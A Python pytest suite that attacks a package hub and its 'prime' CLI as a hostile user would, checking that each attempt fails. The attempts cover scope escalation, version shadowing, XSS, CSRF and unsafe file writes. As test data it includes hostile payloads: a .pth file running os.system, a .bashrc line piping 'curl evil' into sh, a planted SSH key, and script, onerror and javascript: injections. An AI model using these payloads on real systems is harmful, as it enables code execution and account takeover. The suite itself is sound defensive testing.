"""Attacks on the hub and on `prime`, as a hostile user would make them; each must fail while the
next legitimate action still works. A real hub process on loopback, real HTTP, the real CLI."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import tarfile
import time
import uuid

import httpx
import pytest
from support.hubs import error_code as code
from support.hubs import publish, raw_request, user, wheel
from support.hubs import run_prime as prime

from hub_client.client import HubAPIError, HubClient


@pytest.fixture(scope="module")
def hub(strict_hub):
    return strict_hub


def sdist(name, version="1.0.0", members=()) -> tuple[str, bytes]:
    root = f"{name.replace('-', '_')}-{version}"
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for path, data in [
            (
                f"{root}/PKG-INFO",
                f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
            ),
            *members,
        ]:
            info = tarfile.TarInfo(path)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return f"{root}.tar.gz", buf.getvalue()


# --- scopes, roles, tokens ---------------------------------------------------------------------------


def test_a_read_only_token_reads_and_nothing_more_even_an_admins(hub):
    root = HubClient(hub["url"], hub["admin"])
    read_only = root.create_token("ro", ["read"]).token
    attempts = [
        ("POST", "/api/v1/users", {"name": f"evil{uuid.uuid4().hex[:6]}", "is_admin": True}),
        ("POST", "/api/v1/teams", {"name": f"t{uuid.uuid4().hex[:6]}"}),
        ("POST", "/api/v1/tokens", {"name": "up", "scopes": ["publish"]}),
    ]
    for method, path, body in attempts:
        resp = httpx.request(
            method, hub["url"] + path, json=body, headers={"Authorization": f"Bearer {read_only}"}
        )
        assert resp.status_code == 403, (path, resp.text)
    resp = publish(hub, read_only, "root", "x-env", wheel("x-env"))  # root's own namespace
    assert resp.status_code == 403 and code(resp) == "insufficient_scope"
    assert HubClient(hub["url"], read_only).me().user == "root"  # reading still works


def test_plain_team_members_cannot_delete_or_add_members(hub):
    _, owner = user(hub, "own")
    member_name, member = user(hub, "mem")
    outsider_name, _ = user(hub, "out")
    team = f"team{uuid.uuid4().hex[:8]}"
    HubClient(hub["url"], owner).create_team(team)
    httpx.post(
        f"{hub['url']}/api/v1/teams/{team}/members",
        json={"user": member_name},
        headers={"Authorization": f"Bearer {owner}"},
    ).raise_for_status()
    assert publish(hub, member, team, "team-env", wheel("team-env")).status_code == 201
    add = httpx.post(
        f"{hub['url']}/api/v1/teams/{team}/members",
        json={"user": outsider_name},
        headers={"Authorization": f"Bearer {member}"},
    )
    assert add.status_code == 403
    delete = httpx.delete(
        f"{hub['url']}/api/v1/environments/{team}/team-env",
        headers={"Authorization": f"Bearer {member}"},
    )
    assert delete.status_code == 403 and code(delete) == "not_owner"
    assert (
        httpx.delete(
            f"{hub['url']}/api/v1/environments/{team}/team-env",
            headers={"Authorization": f"Bearer {owner}"},
        ).status_code
        == 204
    )


def test_an_expired_token_is_refused(hub):
    _, token = user(hub)
    client = HubClient(hub["url"], token)
    short = client.create_token("short", ["read"], expires_in_days=1)
    assert HubClient(hub["url"], short.token).me()
    hub["backend"].execute(  # a day passes
        hub["data"], "UPDATE tokens SET expires_at='2000-01-01T00:00:00Z' WHERE id=?", (short.id,)
    )
    with pytest.raises(HubAPIError) as expired:
        HubClient(hub["url"], short.token).me()
    assert expired.value.code == "token_expired" and client.me()


def test_tokens_are_listed_without_secrets_revoked_and_expire(hub):
    _, token = user(hub)
    client = HubClient(hub["url"], token)
    extra = client.create_token("ci", ["read"], expires_in_days=1)
    listed = client.list_tokens()
    assert [t.name for t in listed] == ["initial", "ci"] and listed[
        1
    ].expires_at == extra.expires_at
    assert extra.token not in json.dumps([t.model_dump() for t in listed])
    client.revoke_token(extra.id)
    with pytest.raises(HubAPIError) as revoked:
        HubClient(hub["url"], extra.token).me()
    assert revoked.value.code == "invalid_token"
    assert client.me()  # the other token still works


def test_a_token_with_no_scopes_does_nothing_yet_is_listed_and_revoked(hub):
    """A token minted with ``scopes: []`` holds no scope (not the scope ""): its owner can still
    list and revoke tokens, and it can still ask who it is."""
    _, token = user(hub)
    owner = HubClient(hub["url"], token)
    empty = owner.create_token("empty", [])
    assert HubClient(hub["url"], empty.token).me().scopes == []
    assert [t.scopes for t in owner.list_tokens() if t.name == "empty"] == [[]]
    owner.revoke_token(empty.id)
    assert owner.me()


def test_a_read_only_expiring_token_neither_mints_nor_revokes_and_nothing_outlives_its_maker(hub):
    """A CI token (read, one day) cannot mint a token (a never-expiring one would outlive it)
    or revoke the owner's publish token; it can revoke itself. A publish token that expires
    mints only tokens that expire no later, and cannot revoke a token with scopes it lacks."""
    _, token = user(hub)
    owner = HubClient(hub["url"], token)
    me = owner.list_tokens()[0]
    ci = owner.create_token("ci", ["read"], expires_in_days=1)
    as_ci = {"Authorization": f"Bearer {ci.token}"}
    minted = httpx.post(
        f"{hub['url']}/api/v1/tokens", json={"name": "forever", "scopes": ["read"]}, headers=as_ci
    )
    assert minted.status_code == 403 and code(minted) == "insufficient_scope"
    revoke = httpx.delete(f"{hub['url']}/api/v1/tokens/{me.id}", headers=as_ci)
    assert revoke.status_code == 403 and code(revoke) == "insufficient_scope"
    assert owner.me()  # the owner's token still works
    short = owner.create_token("short", ["read", "publish"], expires_in_days=1)
    as_short = HubClient(hub["url"], short.token)
    child = as_short.create_token("child", ["read"])  # asked for no expiry
    assert child.expires_at is not None and child.expires_at <= short.expires_at
    longer = as_short.create_token("longer", ["read"], expires_in_days=30)
    assert longer.expires_at == short.expires_at
    root = HubClient(hub["url"], hub["admin"])
    wide = root.create_token("wide", ["read", "publish", "admin"])
    narrow = root.create_token("narrow", ["read", "publish"]).token
    refused = httpx.delete(
        f"{hub['url']}/api/v1/tokens/{wide.id}", headers={"Authorization": f"Bearer {narrow}"}
    )
    assert refused.status_code == 403 and code(refused) == "insufficient_scope"
    root.revoke_token(wide.id)
    HubClient(hub["url"], ci.token).revoke_token(ci.id)  # a token may always revoke itself
    with pytest.raises(HubAPIError) as gone:
        HubClient(hub["url"], ci.token).me()
    assert gone.value.code == "invalid_token"
    owner.revoke_token(child.id)  # the legitimate action still works


# --- visibility, versions, names ---------------------------------------------------------------------


def test_a_push_without_visibility_keeps_a_private_environment_private(hub):
    name, token = user(hub)
    assert (
        publish(hub, token, name, "quiet-env", wheel("quiet-env"), visibility="private").status_code
        == 201
    )
    assert publish(hub, token, name, "quiet-env", wheel("quiet-env", "1.1.0")).status_code == 201
    assert httpx.get(f"{hub['url']}/api/v1/environments/{name}/quiet-env").status_code == 404
    assert httpx.get(f"{hub['url']}/simple/{name}/quiet-env/quiet-env/").status_code == 404


@pytest.mark.parametrize("shadow", ["1.0", "1.0.0.0", "1.0.0+evil"])
def test_a_published_version_cannot_be_shadowed(hub, shadow):
    name, token = user(hub)
    assert publish(hub, token, name, "pinned-env", wheel("pinned-env", "1.0.0")).status_code == 201
    resp = publish(hub, token, name, "pinned-env", wheel("pinned-env", shadow))
    assert resp.status_code in (400, 409) and code(resp) in ("version_exists", "local_version")


def test_names_clash_after_normalization_within_an_owner(hub):
    name, token = user(hub)
    assert publish(hub, token, name, "foo-bar", wheel("foo-bar")).status_code == 201
    for spelling in ("foo_bar", "foo.bar"):
        resp = publish(hub, token, name, spelling, wheel(spelling, "2.0.0"))
        assert resp.status_code == 409 and code(resp) == "name_clash", resp.text


# --- what a package may contain ----------------------------------------------------------------------


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize(
    ("package", "error"),
    [
        (wheel("pth-env", extra=[("evil.pth", "import os; os.system('id')")]), "pth_file"),
        (wheel("pth-env", extra=[("pth_env-1.0.0.data/purelib/x.pth", "import os")]), "pth_file"),
        (wheel("sdk-env", extra=[("verifiers/__init__.py", "print('owned')")]), "foreign_module"),
        (wheel("sdk-env", top="json"), "foreign_module"),
        (
            wheel(
                "ep-env",
                extra=[
                    (
                        "ep_env-1.0.0.dist-info/entry_points.txt",
                        "[verifiers.environments]\nreverse-text = ep_env:load_environment\n",
                    )
                ],
            ),
            "foreign_entry_point",
        ),
        (wheel("dup-env", extra=[("dup_env/__init__.py", "x = 2\n")]), "duplicate_member"),
        (wheel("hook-env", extra=[("_distutils_hack/__init__.py", "")]), "startup_module"),
        (wheel("venv-env", extra=[("_virtualenv.py", "")]), "startup_module"),
        (wheel("edit-env", extra=[("__editable___x_finder.py", "")]), "startup_module"),
        (
            wheel(
                "name-env", filename='name_env-1.0.0-py3-none-any"><img src=x onerror=alert(1)>.whl'
            ),
            "invalid_filename",
        ),
    ],
    ids=[
        "pth",
        "pth-in-data",
        "sdk-package",
        "stdlib-module",
        "foreign-entry-point",
        "duplicate",
        "setuptools-pth-hook",
        "virtualenv-pth-hook",
        "editable-finder",
        "html-in-filename",
    ],
)
def test_packages_that_reach_outside_themselves_are_refused(hub, package, error):
    name, token = user(hub)
    env = package[0].split("-")[0].replace("_", "-")
    resp = publish(hub, token, name, env, package)
    assert resp.status_code == 400 and code(resp) == error, resp.text
    assert publish(hub, token, name, "ok-env", wheel("ok-env")).status_code == 201


def test_another_environments_module_cannot_be_installed_over(hub):
    """An environment installs its own import name only, so it cannot install over another's;
    the refusal names the upload's own names, never the other environment."""
    alice, alice_token = user(hub)
    bob, bob_token = user(hub)
    assert publish(hub, alice_token, alice, "maze-env", wheel("maze-env")).status_code == 201
    resp = publish(hub, bob_token, bob, "trojan-env", wheel("trojan-env", top="maze_env"))
    assert resp.status_code == 400 and code(resp) == "foreign_module"
    assert alice not in resp.text and "'trojan_env'" in resp.text


def test_an_sdist_member_named_dot_is_a_clean_400(hub):
    name, token = user(hub)
    resp = publish(
        hub, token, name, "dot-env", wheel("dot-env"), sdist("dot-env", members=[(".", b"")])
    )
    assert resp.status_code == 400, resp.text


def test_only_the_owner_attaches_evals(hub):
    name, token = user(hub)
    _, stranger = user(hub)
    assert publish(hub, token, name, "eval-env", wheel("eval-env")).status_code == 201
    version = httpx.get(f"{hub['url']}/api/v1/environments/{name}/eval-env/versions/1.0.0").json()
    meta = {
        "summary": {},
        "model": "m",
        "env_id": "eval-env",
        "env_version": "1.0.0",
        "env_content_hash": version["content_hash"],
        "run_id": "run-1",
    }
    files = {
        "metadata": ("metadata.json", json.dumps(meta).encode()),
        "results": ("results.jsonl", b""),
    }
    url = f"{hub['url']}/api/v1/environments/{name}/eval-env/versions/1.0.0/evals"
    assert (
        httpx.post(url, files=files, headers={"Authorization": f"Bearer {stranger}"}).status_code
        == 403
    )
    assert (
        httpx.post(url, files=files, headers={"Authorization": f"Bearer {token}"}).status_code
        == 201
    )


# --- pages and resources -------------------------------------------------------------------------------


def test_index_pages_do_not_depend_on_the_host_header(hub):
    name, token = user(hub)
    assert publish(hub, token, name, "host-env", wheel("host-env")).status_code == 201
    pages = set()
    for i in range(20):
        resp = httpx.get(
            f"{hub['url']}/simple/{name}/host-env/host-env/", headers={"Host": f"evil{i}.example"}
        )
        assert f"evil{i}" not in resp.text
        pages.add(resp.text)
    assert len(pages) == 1  # one cache entry, whatever the Host


def test_an_anonymous_huge_upload_is_refused_before_its_body_is_read(hub):
    path = "/api/v1/environments/x/y/versions"
    head = f"POST {path} HTTP/1.1\r\nHost: h\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: {300 * 1024 * 1024}\r\n\r\n"
    start = time.monotonic()
    reply = raw_request(hub["url"], head)  # not a byte of the 300 MiB is sent
    assert reply.startswith(b"HTTP/1.1 401") and time.monotonic() - start < 5
    _, token = user(hub)
    head = head.replace("Host: h\r\n", f"Host: h\r\nAuthorization: Bearer {token}\r\n")
    assert raw_request(hub["url"], head).startswith(b"HTTP/1.1 413")


def test_a_client_that_stalls_mid_body_is_cut_off(hub):
    _, token = user(hub)
    head = (
        f"POST /api/v1/teams HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer {token}\r\n"
        "Content-Type: application/json\r\nContent-Length: 100\r\n\r\n"
    )
    start = time.monotonic()
    reply = raw_request(hub["url"], head, b'{"name": ', wait=15)
    assert reply.startswith(b"HTTP/1.1 408") and time.monotonic() - start < 10


# --- the client ---------------------------------------------------------------------------------------


def test_pull_never_writes_dotfiles_or_outside_a_fresh_directory(hub, tmp_path):
    name, token = user(hub)
    root = "pull_env-1.0.0"
    members = [
        (f"{root}/.bashrc", b"curl evil | sh\n"),
        (f"{root}/.ssh/authorized_keys", b"ssh-rsa EVIL\n"),
        (f"{root}/pull_env/__init__.py", b"x = 1\n"),
    ]
    assert (
        publish(
            hub, token, name, "pull-env", wheel("pull-env"), sdist("pull-env", members=members)
        ).status_code
        == 201
    )
    home = tmp_path / "home"
    home.mkdir()
    first = prime(
        hub, token, "env", "pull", f"{name}/pull-env@1.0.0", "-d", str(home), cwd=tmp_path
    )
    assert first.returncode == 0, first.stderr
    written = sorted(str(p.relative_to(home)) for p in home.rglob("*") if p.is_file())
    assert written == [f"{root}/PKG-INFO", f"{root}/pull_env/__init__.py"]
    assert ".bashrc" in first.stderr and not (home / ".bashrc").exists()
    again = prime(
        hub, token, "env", "pull", f"{name}/pull-env@1.0.0", "-d", str(home), cwd=tmp_path
    )
    assert again.returncode != 0 and "fresh directory" in again.stderr


def test_hub_text_cannot_drive_the_terminal(hub, tmp_path):
    name, token = user(hub)
    evil = "\x1b]0;pwned\x07\x1b[2J[red]fake error[/red] \x9b31m"
    resp = publish(hub, token, name, "ansi-env", wheel("ansi-env"), description=evil, readme=evil)
    assert resp.status_code == 201
    shown = prime(hub, token, "env", "info", f"{name}/ansi-env", cwd=tmp_path)
    assert shown.returncode == 0, shown.stderr
    assert "\x1b" not in shown.stdout and "\x9b" not in shown.stdout
    assert "[red]fake error[/red]" in shown.stdout  # shown literally, not as markup


def test_the_install_token_never_reaches_a_command_line(hub, tmp_path, monkeypatch):
    """The uv child gets the index credentials through its environment; its argv has none."""
    import hub_client.install as install_module

    name, token = user(hub)
    assert publish(hub, token, name, "argv-env", wheel("argv-env")).status_code == 201
    seen = {}
    real_run = subprocess.run

    def recording_run(cmd, *args, **kwargs):
        if "install" in cmd and "pip" in cmd:
            seen["argv"] = list(cmd)
            seen["env"] = dict(kwargs.get("env") or {})
        return real_run(cmd, *args, **kwargs)

    monkeypatch.setattr(install_module.subprocess, "run", recording_run)
    venv = tmp_path / "venv"
    real_run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    install_module.install(
        HubClient(hub["url"], token),
        [install_module.EnvSpec.parse(f"{name}/argv-env@1.0.0")],
        tmp_path / "e.lock",
        str(venv / "bin" / "python"),
    )
    assert token not in " ".join(seen["argv"]) and token in seen["env"]["UV_EXTRA_INDEX_URL"]


def test_prime_listing_info_versions_yank_and_lock_as_a_user_types_them(hub, tmp_path):
    name, token = user(hub)
    for version in ("1.0.0", "1.1.0"):
        assert publish(hub, token, name, "cli-env", wheel("cli-env", version)).status_code == 201
    listed = prime(hub, token, "env", "list", "--owner", name, cwd=tmp_path)
    assert listed.returncode == 0 and "1 environment " in listed.stdout  # not "1 environments"
    as_json = json.loads(
        prime(hub, token, "env", "list", "--owner", name, "--output", "json", cwd=tmp_path).stdout
    )
    assert as_json["total"] == 1 and as_json["items"][0]["name"] == "cli-env"
    info = prime(hub, token, "env", "info", f"{name}/cli-env@1.0.0", cwd=tmp_path)
    assert info.returncode == 0 and "cli-env 1.0.0" in info.stdout and "1.1.0" not in info.stdout
    versions = json.loads(
        prime(
            hub, token, "env", "versions", f"{name}/cli-env", "--output", "json", cwd=tmp_path
        ).stdout
    )
    assert [v["version"] for v in versions] == ["1.0.0", "1.1.0"]
    assert all(
        v["content_hash"].startswith("sha256:") and len(v["content_hash"]) == 71 for v in versions
    )
    assert (
        prime(
            hub, token, "env", "yank", f"{name}/cli-env@1.0.0", "--reason", "broken", cwd=tmp_path
        ).returncode
        == 0
    )
    assert HubClient(hub["url"], token).version(name, "cli-env", "1.0.0").yanked
    assert (
        prime(hub, token, "env", "yank", f"{name}/cli-env@1.0.0", "--undo", cwd=tmp_path).returncode
        == 0
    )
    assert not HubClient(hub["url"], token).version(name, "cli-env", "1.0.0").yanked


def test_installing_a_yanked_pin_warns_and_the_lock_names_its_hub(hub, tmp_path):
    import hub_client.install as install_module

    name, token = user(hub)
    assert publish(hub, token, name, "old-env", wheel("old-env")).status_code == 201
    HubClient(hub["url"], token).yank(name, "old-env", "1.0.0", "superseded")
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    result = subprocess.run(
        [
            sys.executable,
            "-c",
            (
                "import sys; from hub_client.client import HubClient; from hub_client.install import EnvSpec, install; "
                f"install(HubClient({hub['url']!r}, {token!r}), [EnvSpec.parse('{name}/old-env@1.0.0')], "
                f"__import__('pathlib').Path({str(tmp_path / 'e.lock')!r}), {str(venv / 'bin' / 'python')!r})"
            ),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    assert "is yanked (superseded)" in result.stderr
    assert json.loads((tmp_path / "e.lock").read_text())["hub"] == hub["url"]
    del install_module


# --- web pages, in a real browser (headless Chromium) ------------------------------------------

HOSTILE_README = """# Hostile

<script>window.__pwned = 1</script>
<img src=x onerror="window.__pwned = 2">

[click me](javascript:window.__pwned=3) and [docs](https://example.invalid/docs)
"""


def test_hub_pages_hide_private_environments_and_run_nothing_from_readmes(hub, tmp_path):
    import shutil

    playwright = pytest.importorskip("playwright.sync_api")
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        pytest.skip("needs chromium (apt-get install chromium)")
    from pathlib import Path

    artifacts = Path(
        os.environ.get(
            "VF_TEST_ARTIFACTS", Path(__file__).parents[2] / "outputs" / "test-artifacts"
        )
    )
    artifacts.mkdir(parents=True, exist_ok=True)
    owner, token = user(hub, "web")
    public = publish(
        hub,
        token,
        owner,
        "web-public",
        wheel("web-public"),
        readme=HOSTILE_README,
        description="shown <b>to all</b>",
        tags='["demo", "<i>x</i>"]',
    )
    assert public.status_code == 201, public.text
    private = publish(
        hub,
        token,
        owner,
        "web-secret",
        wheel("web-secret"),
        visibility="private",
        description="only for the owner",
    )
    assert private.status_code == 201, private.text
    version = httpx.get(
        f"{hub['url']}/api/v1/environments/{owner}/web-public/versions/1.0.0"
    ).json()
    meta = {
        "summary": {"avg_reward": 0.5, "std_reward": 0.5, "num_errors": 0},
        "model": "m",
        "env_id": "web-public",
        "env_version": "1.0.0",
        "env_content_hash": version["content_hash"],
        "run_id": "web-run",
    }
    results = b"\n".join(json.dumps({"reward": r}).encode() for r in (0.0, 1.0, 1.0, 0.0))
    attached = httpx.post(
        f"{hub['url']}/api/v1/environments/{owner}/web-public/versions/1.0.0/evals",
        files={
            "metadata": ("metadata.json", json.dumps(meta).encode()),
            "results": ("results.jsonl", results),
        },
        headers={"Authorization": f"Bearer {token}"},
    )
    assert attached.status_code == 201, attached.text
    # CSRF: a login form posted without the hub's own cookie and token is refused
    forged = httpx.post(f"{hub['url']}/login", data={"token": token, "csrf": "guess"})
    assert forged.status_code == 403 and "csrf" in forged.text

    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        page = browser.new_page()
        page.goto(f"{hub['url']}/?owner={owner}")
        assert f"{owner}/web-public" in page.inner_text("table.environments")
        assert "web-secret" not in page.content()  # logged out: private does not exist
        page.screenshot(path=str(artifacts / "hub-index-logged-out.png"), full_page=True)
        page.goto(f"{hub['url']}/e/{owner}/web-public")
        assert page.evaluate("window.__pwned") is None  # no README script or handler ran
        readme = page.inner_text(".readme")
        assert "<script>window.__pwned = 1</script>" in readme  # shown as text
        assert page.locator(".readme a[href^='javascript']").count() == 0
        assert page.locator(".readme a[href='https://example.invalid/docs']").count() == 1
        assert "shown <b>to all</b>" in page.inner_text("body")
        assert page.inner_text(".install") == f"prime env install {owner}/web-public@1.0.0"
        assert version["files"][0]["sha256"] in page.inner_text("table.versions")
        assert (
            "reward 0.5000" in page.inner_text(".eval")
            and page.locator(".eval svg rect").count() == 20
        )
        page.screenshot(path=str(artifacts / "hub-environment.png"), full_page=True)
        page.goto(f"{hub['url']}/e/{owner}/web-secret")
        assert "Not found" in page.inner_text("h1")

        page.goto(f"{hub['url']}/login")
        page.fill("input[name=token]", token)
        page.click("form[action='/login'] button")
        page.wait_for_url(f"{hub['url']}/")
        cookie = next(c for c in page.context.cookies() if c["name"] == "vfh_session")
        assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
        assert page.evaluate("document.cookie").find("vfh_session") == -1  # not readable by scripts
        page.goto(f"{hub['url']}/?owner={owner}")
        assert "web-secret" in page.inner_text("table.environments")
        page.goto(f"{hub['url']}/e/{owner}/web-secret")
        assert "only for the owner" in page.inner_text("body") and "private" in page.inner_text(
            "h1"
        )
        page.goto(f"{hub['url']}/u/{owner}")
        assert page.locator("table.environments tr").count() == 3  # header + both
        page.screenshot(path=str(artifacts / "hub-owner-logged-in.png"), full_page=True)
        page.click("form[action='/logout'] button")
        page.goto(f"{hub['url']}/e/{owner}/web-secret")
        assert "Not found" in page.inner_text("h1")
        browser.close()


def test_a_hub_serves_the_sdk_wheel_it_is_given(tmp_path):
    """prime hub serve --sdk-wheel PATH: /sdk/ describes that wheel and serves exactly it."""
    import hashlib

    from fastapi.testclient import TestClient

    from hub_server import HubSettings, create_app

    wheel_file = tmp_path / "verifiers-9.8.7-py3-none-any.whl"
    wheel_file.write_bytes(b"PK-not-really-a-wheel")
    settings = HubSettings(
        data_dir=tmp_path / "data", sdk_wheel=wheel_file, public_url="http://hub.test"
    )
    with TestClient(create_app(settings)) as client:
        info = client.get("/sdk/").json()
        assert client.get(f"/sdk/{wheel_file.name}").content == wheel_file.read_bytes()
        assert client.get("/sdk/verifiers-0.0.1-py3-none-any.whl").status_code == 404
    digest = hashlib.sha256(wheel_file.read_bytes()).hexdigest()
    assert info["version"] == "9.8.7" and info["sha256"] == digest
    assert info["install"] == (
        f'pip install "verifiers @ http://hub.test/sdk/{wheel_file.name}#sha256={digest}"'
    )
    settings = HubSettings(
        data_dir=tmp_path / "d2", sdk_wheel=tmp_path / "nope.whl", public_url="http://hub.test"
    )
    with TestClient(create_app(settings)) as client:
        missing = client.get("/sdk/")
    assert missing.status_code == 404 and missing.json()["error"]["code"] == "sdk_unavailable"


def test_the_embedded_stores_are_private_to_the_hubs_user(tmp_path):
    """hub.sqlite3 and its WAL were 0644 (private READMEs, user names, token hashes readable by
    every local user); the files directory holds private environments' wheels."""
    import stat

    from hub_server.db.blobs import LocalBlobStore
    from hub_server.db.engine import open_database

    data = tmp_path / "data"
    database = open_database(None, data)
    with database.transaction() as db:
        db.execute("CREATE TABLE t (x INTEGER)")
        db.execute("INSERT INTO t VALUES (1)")
    LocalBlobStore(data / "files")
    modes = {
        p.name: stat.S_IMODE(p.stat().st_mode) for p in data.iterdir() if p.name.startswith("hub")
    }
    assert set(modes) >= {"hub.sqlite3", "hub.sqlite3-wal", "hub.sqlite3-shm"}
    assert set(modes.values()) == {0o600}, modes
    assert (
        stat.S_IMODE(data.stat().st_mode) == stat.S_IMODE((data / "files").stat().st_mode) == 0o700
    )


def test_a_blob_dir_the_user_already_had_lists_nothing_to_others(tmp_path):
    """``--blobs file:///DIR`` may name a directory of the user's that others may read (0755,
    which the own-dir check accepts): its shard directories were 0755, so any local user listed
    the sha256, size and upload time of every private wheel. They are 0700, the files 0600, and
    the store reads back what it wrote."""
    import stat

    from hub_server.db.blobs import LocalBlobStore

    root = tmp_path / "blobs"
    root.mkdir(mode=0o755)
    root.chmod(0o755)
    store = LocalBlobStore(root)
    key = store.put(b"a private wheel")
    (shard,) = root.iterdir()
    assert stat.S_IMODE(shard.stat().st_mode) == 0o700
    assert stat.S_IMODE((shard / key).stat().st_mode) == 0o600
    assert store.get(key) == b"a private wheel"
